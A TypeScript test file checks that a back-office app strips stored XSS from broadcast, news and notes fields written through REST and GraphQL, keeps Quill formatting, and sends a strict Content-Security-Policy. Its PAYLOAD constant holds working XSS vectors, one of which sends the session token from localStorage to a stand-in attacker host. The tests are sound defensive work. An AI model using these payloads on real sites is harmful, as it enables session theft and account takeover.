/**
 * Issue 10 §4, stored XSS: a staff user stores `<img onerror=…>` (and friends) in a broadcast, news or any
 * rich-text column — through REST and through GraphQL inserts and updates — and it comes back inert, while
 * what Quill writes (fonts of the whitelist, colours, lists, links, pasted images) is kept. Every response
 * carries a strict Content-Security-Policy.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { databaseLanes } from "../support/db.ts";
import { api, bearer, signIn, startTestServer, type TestServer } from "../support/auth.ts";
import { RICH_TEXT_COLUMNS } from "../../src/domain/richTextHtml.ts";
import { resources } from "../../resources/index.ts";

const PAYLOAD =
  `<p>Hello<img src=x onerror="fetch('https://evil.example/?t='+localStorage.getItem('backoffice.session'))">` +
  `<script>alert(1)</script><a href="javascript:alert(2)">click</a><iframe src="https://evil.example"></iframe>` +
  `<span style="color: #e60000; position: fixed; background-image: url(https://evil.example/x)" onclick="alert(3)">red</span>` +
  `<svg><animate onbegin="alert(4)"/></svg><img src="https://evil.example/pixel.png"><img src="data:image/svg+xml;base64,PHN2Zz4="></p>`;

/** Nothing that can run or phone home survives. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<svg|svg\+xml|onerror|onclick|onbegin|javascript:|evil\.example|position|url\(/i);
}

const QUILL =
  `<h2 class="ql-align-center">Term 2</h2><p><span class="ql-font-georgia" style="color: rgb(230, 0, 0); background-color: #ffff00;">Fees</span> ` +
  `<a href="https://www.example-centre.sg/fees" rel="noopener noreferrer" target="_blank">here</a></p>` +
  `<ol><li data-list="bullet"><strong>Bring</strong> <em>books</em></li></ol><p><img src="/media/public?key=news/a.png"><img src="data:image/png;base64,iVBORw0KGgo="></p>`;

describe.each(databaseLanes())("stored XSS: rich text is sanitised on write [%s]", (lane) => {
  let server: TestServer;
  let sales: string;
  let frontDesk: string;
  let admin: string;
  beforeAll(async () => {
    server = await startTestServer(lane);
    sales = (await signIn(server.app, "sales")).accessToken;
    frontDesk = (await signIn(server.app, "front_desk")).accessToken;
    admin = (await signIn(server.app, "admin")).accessToken;
  });
  afterAll(async () => {
    await server?.close();
  });
  const gql = async (token: string, query: string, variables?: Record<string, unknown>) => {
    const res = await server.app.inject({ method: "POST", url: "/v1/graphql", headers: bearer(token), payload: { query, variables } });
    const body = res.json();
    expect(body.errors).toBeUndefined();
    return body.data;
  };
  const column = async (sql: string, id: string) => (await server.db.query<{ v: string }>(sql, [id])).rows[0]!.v;

  it("a broadcast saved through POST /broadcast keeps Quill's formatting and loses the attack", async () => {
    const res = await api(server.app, "POST", "/broadcast", sales, { title: "XSS", content: PAYLOAD + QUILL, via: ["notification"], send: false });
    expect(res.statusCode).toBe(201);
    const stored = await column(`select content as v from broadcasts where id = $1`, res.json().data.id);
    expectInert(stored);
    expect(stored).toContain(`<span style="color:#e60000">red</span>`);
    expect(stored).toContain(`<a>click</a>`);
    expect(stored).toContain(`<span class="ql-font-georgia" style="color:rgb(230, 0, 0);background-color:#ffff00">Fees</span>`);
    expect(stored).toContain(`<a href="https://www.example-centre.sg/fees" rel="noopener noreferrer" target="_blank">here</a>`);
    expect(stored).toContain(`<li data-list="bullet"><strong>Bring</strong> <em>books</em></li>`);
    expect(stored).toContain(`<h2 class="ql-align-center">`);
    expect(stored).toContain(`<img src="/media/public?key=news/a.png" /><img src="data:image/png;base64,iVBORw0KGgo=" />`);
    // and what goes out to the outbox (e-mails) when it is sent is the sanitised text too
    const sent = await api(server.app, "POST", "/broadcast", sales, { id: res.json().data.id, title: "XSS", content: PAYLOAD, via: ["email"] });
    expect(sent.statusCode).toBe(200);
    const { rows } = await server.db.query<{ body: string }>(`select body from outbox where payload->>'broadcastId' = $1`, [res.json().data.id]);
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expectInert(r.body);
  });

  it("news saved through POST /news is sanitised the same way", async () => {
    const res = await api(server.app, "POST", "/news", sales, { title: "XSS news", message: PAYLOAD, send: false });
    expect(res.statusCode).toBe(201);
    expectInert(await column(`select message as v from news where id = $1`, res.json().data.id));
  });

  it("GraphQL inserts and updates of rich-text columns are sanitised, with variables or inline, for staff and admin alike", async () => {
    const inserted = await gql(frontDesk, `mutation($o: broadcasts_insert_input!) { insert_broadcasts_one(object: $o) { id content } }`, {
      o: { title: "via GraphQL", content: PAYLOAD },
    });
    expectInert(inserted.insert_broadcasts_one.content);
    const id = inserted.insert_broadcasts_one.id;
    expectInert(await column(`select content as v from broadcasts where id = $1`, id));

    const updated = await gql(frontDesk, `mutation($id: uuid!, $c: String) { update_broadcasts_by_pk(pk_columns: {id: $id}, _set: {content: $c}) { content } }`, { id, c: `<p>ok</p>${PAYLOAD}` });
    expect(updated.update_broadcasts_by_pk.content).toMatch(/^<p>ok<\/p>/);
    expectInert(updated.update_broadcasts_by_pk.content);

    const inline = await gql(admin, `mutation { update_broadcasts(where: {id: {_eq: "${id}"}}, _set: {content: "<img src=x onerror=alert(1)>"}) { returning { content } } }`);
    expect(inline.update_broadcasts.returning[0].content).toBe("");

    const news = await gql(frontDesk, `mutation($o: [news_insert_input!]!) { insert_news(objects: $o) { returning { message } } }`, { o: [{ title: "n", message: PAYLOAD }] });
    expectInert(news.insert_news.returning[0].message);

    const { rows } = await server.db.query<{ id: string }>(`select id from companies where status <> 'deleted' limit 1`);
    const company = await gql(admin, `mutation($id: uuid!, $n: String) { update_companies_by_pk(pk_columns: {id: $id}, _set: {paNotes: $n}) { paNotes } }`, { id: rows[0]!.id, n: PAYLOAD });
    expectInert(company.update_companies_by_pk.paNotes);
  });

  it("every richText field of resources/*.ts is declared a rich-text column, so every writer sanitises it", () => {
    const declared = resources.flatMap((r) => r.fieldList.filter((f) => f.kind === "richText").map((f) => `${r.table}.${f.name}`));
    expect(declared.length).toBeGreaterThan(0);
    const listed = new Set(Object.entries(RICH_TEXT_COLUMNS).flatMap(([t, cols]) => cols.map((c) => `${t}.${c}`)));
    for (const name of declared) expect(listed, name).toContain(name);
  });

  it("responses carry a strict Content-Security-Policy: scripts only from this server, no inline script, nothing framed", async () => {
    const res = await server.app.inject({ method: "GET", url: "/healthz", headers: { host: "backoffice.example:9000" } });
    const csp = String(res.headers["content-security-policy"]);
    const directive = (name: string) => csp.split(";").map((d) => d.trim()).find((d) => d.startsWith(`${name} `));
    expect(directive("script-src")).toBe("script-src 'self'");
    expect(directive("default-src")).toBe("default-src 'self'");
    expect(directive("object-src")).toBe("object-src 'none'");
    expect(directive("frame-ancestors")).toBe("frame-ancestors 'none'");
    expect(directive("connect-src")).toBe("connect-src 'self' ws://backoffice.example:9000");
    expect(res.headers["x-content-type-options"]).toBe("nosniff");
  });
});
